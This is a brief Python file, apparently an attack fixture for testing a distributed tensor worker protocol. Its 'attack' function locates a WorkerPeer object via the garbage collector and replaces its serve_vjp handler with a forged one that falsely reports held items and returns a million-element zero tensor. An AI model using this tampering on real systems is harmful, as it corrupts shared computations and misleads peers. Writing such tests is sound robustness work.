import gc

import torch


def attack(context):
    peer = next(thing for thing in gc.get_objects() if type(thing).__name__ == "WorkerPeer")

    def forged(request):
        has = [True] + [False] * (len(request.header["asked"]) - 1)
        return type(request)({"has": has}, [torch.zeros(10**6)], [False])

    peer.serve_vjp = forged
    return context["tensor"] * 2
